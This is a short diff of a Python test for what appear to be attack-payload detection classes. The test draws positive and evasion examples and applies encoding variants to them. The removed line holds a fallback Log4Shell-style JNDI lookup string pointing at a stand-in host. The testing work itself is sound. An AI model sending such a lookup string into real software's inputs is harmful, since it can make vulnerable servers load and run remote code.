@@ -36,10 +36,9 @@ def test_most_classes_have_clauses():
 def test_every_payload_has_a_literal_of_every_clause(name, data):
     version = CLASSES[name][-1]
     known = load_class(name, version)
-    examples = [
-        text for text in (*known.data.positive, *known.data.evasion) if isinstance(text, str) and text.isascii()
-    ]
-    text = data.draw(st.sampled_from(examples or ["${jndi:ldap://a.example/x}"]))
+    shown = (*known.data.positive, *known.data.evasion)
+    examples = [one for one in shown if isinstance(one, str) and one.isascii()]
+    text = data.draw(st.sampled_from(examples))
     how = st.sampled_from(
         ("", "", "", "units", "many", "byte", "braces", "octal", "decimal", "zeros", "hex", "wide", "both")
     )
